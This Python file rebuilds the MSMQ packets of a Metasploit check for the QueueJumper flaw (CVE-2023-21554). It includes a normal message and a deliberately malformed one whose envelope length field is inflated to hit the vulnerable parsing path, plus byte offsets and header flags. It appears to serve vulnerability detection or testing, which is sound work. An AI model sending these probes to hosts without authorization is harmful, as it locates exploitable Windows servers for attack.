"""The UserMessage of Metasploit's QueueJumper (CVE-2023-21554) check, and its malformed twin.

Source: rapid7/metasploit-framework, modules/auxiliary/scanner/msmq/cve_2023_21554_queuejumper.rb
(PR #18281), commit 4b8f5dc41c619f93a82549af019841251f4eec67.  The bytes are rebuilt here from the
module's published field values (the facts of its packet, not its code): a BaseHeader, a UserHeader
with a direct HTTP destination, a MessagePropertiesHeader labelled "poc", an SRMPEnvelopeHeader
holding a SOAP envelope (UTF-16LE), a CompoundMessageHeader holding the HTTP POST of an SRMP message
and an empty ExtensionHeader: 2,380 bytes by these values (the tooling notes said 2,404; the
CompoundMessageHeader's MsgBodyOffset, 995, lands on the body "Message" in this rebuild, as the module means).  The module sends it on a fresh connection to TCP 1801, with
no EstablishConnection, and takes a reply holding "LIOR" as a live MSMQ (MS-MQQB 4.1 has no such
exchange: D-88).  MALFORMED adds 0x80000000 to SRMPEnvelopeHeader.DataLength (its top byte, at offset
235, becomes 0x80): a patched Windows drops it unanswered.

Where the module writes a field big-endian, the bytes are what it puts on the wire: BaseHeader.Flags
0x0300 big-endian is 0x0003 little-endian (priority 3), UserHeader.Flags 0x011C2002 big-endian is
0x02201C01 (DQ 7, MP, and bit 25), and the MessagePropertiesHeader's four-byte fields are all 0.
"""

from __future__ import annotations

import struct

SOURCE = ("rapid7/metasploit-framework modules/auxiliary/scanner/msmq/cve_2023_21554_queuejumper.rb "
          "@ 4b8f5dc41c619f93a82549af019841251f4eec67")

DESTINATION = "http://192.168.10.100/msmq/private$/queuejumper"
SENT_TIME, MESSAGE_ID = 1690217059, 1
BASE_FLAGS = 0x0003                   # the module's 0x0300, written big-endian
USER_FLAGS = 0x02201C01               # the module's 0x011C2002, written big-endian
LABEL = "poc"

_ENVELOPE_LINES = [
    '<se:Envelope xmlns:se="http://schemas.xmlsoap.org/soap/envelope/" ',
    'xmlns="http://schemas.xmlsoap.org/srmp/">',
    '<se:Header>',
    ' <path xmlns="http://schemas.xmlsoap.org/rp/" se:mustUnderstand="1">',
    '   <action>MSMQ:poc</action>',
    '   <to>http://192.168.10.100/msmq/private$/queuejumper</to>',
    '   <id>uuid:1@00000000-0000-0000-0000-000000000000</id>',
    ' </path>',
    ' <properties se:mustUnderstand="1">',
    '   <expiresAt>20600609T164419</expiresAt>',
    '   <sentAt>20230724T164419</sentAt>',
    ' </properties>',
    '</se:Header>',
    '<se:Body></se:Body>',
]
ENVELOPE = "\r\n".join(_ENVELOPE_LINES) + "\r\n</se:Envelope>\r\n\r\n\x00"   # the SRMPEnvelopeHeader's Data

_HTTP_HEAD = [
    "POST /msmq HTTP/1.1",
    "Content-Length: 816",
    'Content-Type: multipart/related; boundary="MSMQ - SOAP boundary, 53287"; type=text/xml',
    "Host: 192.168.10.100",
    'SOAPAction: "MSMQMessage"',
    "Proxy-Accept: NonInteractiveClient",
    "",
    "--MSMQ - SOAP boundary, 53287",
    "Content-Type: text/xml; charset=UTF-8",
    "Content-Length: 606",
    "",
]
_HTTP_TAIL = [
    "",
    "--MSMQ - SOAP boundary, 53287",
    "Content-Type: application/octet-stream",
    "Content-Length: 7",
    "Content-Id: body@ff3af301-3196-497a-a918-72147c871a13",
    "",
    "Message",
    "--MSMQ - SOAP boundary, 53287--\x00",
]
COMPOUND_DATA = ("\r\n".join(_HTTP_HEAD + _ENVELOPE_LINES + ["</se:Envelope>"] + _HTTP_TAIL)).encode("ascii")
COMPOUND_HEADER_ID, MSG_BODY_SIZE, MSG_BODY_OFFSET = 500, 7, 995


def _build(data_length_extra: int = 0) -> bytes:
    queue = DESTINATION.encode("utf-16-le") + b"\0\0"
    user = (bytes(16) + bytes(16) + struct.pack("<IIII", 0, SENT_TIME, MESSAGE_ID, USER_FLAGS)
            + struct.pack("<H", len(queue)) + queue)
    user += bytes(-len(user) % 4)
    label = LABEL.encode("utf-16-le") + b"\0\0"
    properties = struct.pack("<BBH20sIIIIIIII", 0, len(label) // 2, 0, bytes(20), 0, 0, 0, 0, 0, 0, 0, 0) + label
    envelope = ENVELOPE.encode("utf-16-le")
    srmp = struct.pack("<HHI", 0, 0, (len(envelope) // 2 + data_length_extra) & 0xFFFFFFFF) + envelope
    srmp += bytes(-len(srmp) % 4)
    compound = struct.pack("<HHIII", COMPOUND_HEADER_ID, 0, len(COMPOUND_DATA), MSG_BODY_SIZE,
                           MSG_BODY_OFFSET) + COMPOUND_DATA
    extension = struct.pack("<II", 12, 0) + bytes(4)
    rest = user + properties + srmp + compound + extension
    return struct.pack("<BBHIII", 0x10, 0, BASE_FLAGS, 0x524F494C, 16 + len(rest), 0xFFFFFFFF) + rest


MESSAGE_NORMAL = _build()
MESSAGE_MALFORMED = _build(0x80000000)       # SRMPEnvelopeHeader.DataLength + 0x80000000
USER_HEADER_END = 164                        # BaseHeader 16 + UserHeader 148 (146 and 2 of padding)
PROPERTIES_END = 228                         # + MessagePropertiesHeader 56 + the label's 8 bytes
SRMP_DATA_LENGTH_OFFSET = 232                # SRMPEnvelopeHeader.DataLength, its top byte at 235
